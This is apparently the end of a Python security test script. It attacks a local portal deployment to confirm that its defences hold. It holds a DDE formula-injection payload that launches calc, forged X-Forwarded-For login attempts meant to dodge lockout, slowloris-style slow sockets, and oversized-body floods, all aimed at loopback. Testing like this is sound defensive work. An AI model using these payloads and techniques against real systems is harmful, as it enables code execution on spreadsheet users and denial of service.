        r["department"] == run.ids["departments"][1] and r["role"] == "co_organizer" for r in item["responsibilities"]))
    report = run.submit(row, "d02-staff", co_item, narrative="=cmd|' /C calc'!A0",
                        department=run.ids["departments"][1])
    if report:
        run.api(row, "d02-head", "POST", f"reports/{report['id']}/review/", {"decision": "approve"})
    leader = run.logged_in("leader")
    for year in (2020, 2021):
        # the period up to today (the portal's day, Asia/Shanghai), so that the reports just written are in it
        today = datetime.datetime.now(zoneinfo.ZoneInfo("Asia/Shanghai")).date()
        status, _, _ = run.send(row, leader, "GET", f"/dashboard/bulletin.xlsx?year={year}&from={year}-01-01&to={today}")
        if status != 200:
            row.notes.append(f"{year}: the bulletin answered {status}")
            row.lost += 1
            continue
        workbook = openpyxl.load_workbook(io.BytesIO(leader.body))
        formulas_found = [f"{sheet.title}!{cell.coordinate}" for sheet in workbook for line in sheet.iter_rows()
                          for cell in line if cell.data_type == "f"]
        for where in formulas_found:
            row.leak(f"a live formula in {where}")
        texts = [cell.value for sheet in workbook for line in sheet.iter_rows() for cell in line
                 if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))]
        row.notes.append(f"{year}: {len(texts)} cells start like a formula, all text")


def forged_forwarded_for(run: Run) -> None:
    row = run.attack("forged X-Forwarded-For")

    def attempt(source, username, password, forged=None, port=None):
        browser = run.browser(port=port, source=source)
        _, _, page = run.send(row, browser, "GET", "/accounts/login/")
        status, _, _ = run.send(row, browser, "POST", "/accounts/login/", {
            "csrfmiddlewaretoken": browser.csrf(page), "username": username, "password": password},
            headers={"X-Forwarded-For": forged} if forged else None)
        return status

    statuses = [attempt("127.0.0.21", "d07-staff", "wrong", forged=f"10.{n}.0.1") for n in range(40)]
    if attempt("127.0.0.21", "d07-staff", PASSWORD, forged="10.99.0.1") != 429 or statuses.count(429) != 36:
        row.leak(f"not locked after 5 forged tries ({statuses.count(429)} of 40 refused)")
    for _ in range(5):
        attempt("127.0.0.21", "d08-staff", "wrong", forged="127.0.0.22")
    if attempt("127.0.0.22", "d08-staff", PASSWORD) != 302:
        row.leak("forged tries locked another PC out")
    direct = [attempt("127.0.0.23", "d09-staff", "wrong", forged=f"10.{n}.0.2", port=run.upstream_port)
              for n in range(10)]
    if direct.count(429) != 6:
        row.leak(f"straight to gunicorn, the forged header was believed ({direct})")
    row.notes.append("locked after 5 through nginx and straight to gunicorn")


def slow_clients(run: Run, sockets: int = 16, seconds: int = 14) -> None:
    row = run.attack("slow clients against the proxy")

    def slowly(send_body):
        try:
            with socket.create_connection(("127.0.0.1", run.port), timeout=seconds + 5) as connection:
                if send_body:
                    connection.sendall(f"POST /accounts/login/ HTTP/1.1\r\nHost: {SITE}\r\nContent-Type: "
                                       "application/x-www-form-urlencoded\r\nContent-Length: 5000\r\n\r\n".encode())
                else:
                    connection.sendall(f"GET /healthz HTTP/1.1\r\nHost: {SITE}\r\n".encode())
                deadline = time.monotonic() + seconds
                while time.monotonic() < deadline:
                    connection.sendall(b"a" if send_body else b"X-Slow: 1\r\n")
                    time.sleep(3)
        except OSError:
            pass

    threads = [threading.Thread(target=slowly, args=(n % 2,), daemon=True) for n in range(sockets)]
    for thread in threads:
        thread.start()
    time.sleep(2)
    waits = []
    browser = run.logged_in("leader")
    for _ in range(4):
        for path in ("/healthz", "/dashboard/", "/my/", "/api/v1/items/?page_size=5"):
            started = time.monotonic()
            headers = {"Authorization": f"Token {run.tokens['leader']}"} if path.startswith("/api/") else None
            status, _, _ = run.send(row, browser, "GET", path, headers=headers)
            waits.append(time.monotonic() - started)
            if status != 200:
                row.lost += 1
        time.sleep(2)
    for thread in threads:
        thread.join(timeout=seconds + 10)
    if max(waits) > 2:
        row.leak(f"a normal request waited {max(waits):.1f} s")
    row.notes.append(f"{sockets} slow sockets for {seconds} s; normal requests p100 {max(waits) * 1000:.0f} ms")


def oversized_bodies(run: Run) -> None:
    row = run.attack("oversized bodies")
    spool = Path(tempfile.gettempdir())
    before = {p for p in spool.glob("*.upload*")}
    cases = [("/accounts/login/", 512 * 2**20, "multipart/form-data; boundary=x"),
             ("/api/v1/reports/", 2**30, "multipart/form-data; boundary=x"),
             (f"/items/{run.item(1)['id']}/report/", 52 * 2**20, "multipart/form-data; boundary=x"),
             ("/api/v1/reports/", 3 * 2**20, "application/json")]
    for port in (run.port, run.upstream_port):
        for path, length, content_type in cases:
            row.requests += 1
            started = time.monotonic()
            with socket.create_connection(("127.0.0.1", port), timeout=20) as connection:
                connection.sendall((f"POST {path} HTTP/1.1\r\nHost: {SITE}\r\nX-Forwarded-Proto: https\r\n"
                                    f"Content-Type: {content_type}\r\nContent-Length: {length}\r\n\r\n").encode())
                if length <= 8 * 2**20:
                    # Under the proxy's limit: nginx takes the whole body, then the portal refuses it
                    # (the portal itself answers before it has all of it, and closes).
                    try:
                        connection.sendall(b"x" * length)
                    except OSError:
                        pass
                try:
                    answer = connection.recv(200)
                except OSError:
                    answer = b""
            seconds = time.monotonic() - started
            if seconds > 3:
                row.leak(f"{length // 2**20} MB to {path} on {port} took {seconds:.1f} s to refuse")
            status = int(answer.split()[1]) if answer.startswith(b"HTTP/") else 0
            if status >= 500:
                row.server_errors += 1
            if status != 413:
                row.leak(f"{length // 2**20} MB to {path} on {port}: {status or 'no answer'}")
    spooled = [p for p in spool.glob("*.upload*") if p not in before and p.stat().st_size > 2**20]
    if spooled:
        row.leak(f"{len(spooled)} bodies spooled to disk")
    row.notes.append("refused at nginx and at the portal before the body; nothing spooled")


def concurrent_submits(run: Run, rounds: int = 30) -> None:
    row = run.attack("concurrent submits (same version)")
    created = []
    with concurrent.futures.ThreadPoolExecutor(max_workers=2) as pool:
        for n in range(rounds):
            number = 30 + n % 5
            version = run.fresh_version(row, run.item(number))
            body = {"item": run.item(number)["id"], "status": "in_progress", "percent": 50 + n % 40,
                    "narrative": f"并发第{n}轮", "version": version}
            answers = list(pool.map(lambda user: run.api(row, user, "POST", "reports/", body), ["d01-staff", "d01-head"]))
            statuses = sorted(status for status, _ in answers)
            if statuses != [201, 409]:
                (row.leak if statuses == [201, 201] else row.notes.append)(f"round {n}: {statuses}")
            created += [report["id"] for status, report in answers if status == 201]
    stored = int(run.sql(f"SELECT count(*) FROM tasks_progressreport WHERE id IN ({','.join(map(str, created)) or 0})"))
    row.lost += len(created) - stored
    row.notes.append(f"{rounds} rounds: {len(created)} saved, {stored} in the database")


def closed_plan(run: Run) -> None:
    row = run.attack("closed plan")
    plan = run.ids["plans"][2021]
    status, _ = run.api(row, "admin", "POST", f"plans/{plan}/close/")
    if status != 200:
        row.notes.append(f"close answered {status}")
        return
    item = run.item(2, 2021)
    for method, path, body, user in (("POST", f"targets/{item['targets'][0]['id']}/fill/", {"target_value": "5"}, "admin"),
                                     ("POST", f"plans/{plan}/publish/", None, "admin"),
                                     ("POST", "reports/", {"item": item["id"], "status": "in_progress", "percent": 9,
                                                          "narrative": "关闭后报送", "version": item["version"]}, "admin"),
                                     ("POST", "instructions/", {"item": item["id"], "text": "关闭后批示"}, "leader")):
        status, _ = run.api(row, user, method, path, body)
        if status < 300:
            row.leak(f"{method} {path} on a closed plan answered {status}")
    value = run.sql(f"SELECT coalesce(target_value::text, 'null') FROM tasks_target WHERE id = {item['targets'][0]['id']}")
    if value not in ("null", ""):
        row.leak(f"the closed plan's target was filled ({value})")


ATTACKS = [self_approval, cross_department, stored_xss, sql_injection, csrf, open_redirects, hostile_queries,
           formulas, forged_forwarded_for, slow_clients, oversized_bodies, concurrent_submits, closed_plan]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--port", type=int, default=8775, help="nginx's port (loopback)")
    parser.add_argument("--upstream-port", type=int, default=8774, help="gunicorn's port (loopback)")
    parser.add_argument("--max-seconds", type=int, default=900, help="stop attacking after this long")
    args = parser.parse_args()
    run = Run(args)
    started = time.monotonic()
    run.start()
    try:
        for attack in ATTACKS:
            try:
                attack(run)
            except TimeUp:
                run.rows[-1].notes.append("stopped: time limit")
                break
            except Exception as error:  # an attack that could not run says so, and the run fails
                run.rows[-1].notes.append(f"the attack itself failed: {type(error).__name__}: {error}")
                run.crashed = True
    finally:
        run.stop()
    clean = run.print_table()
    print(f"\n{time.monotonic() - started:.0f} s; logs in {run.var}")
    raise SystemExit(0 if clean else 1)


if __name__ == "__main__":
    main()
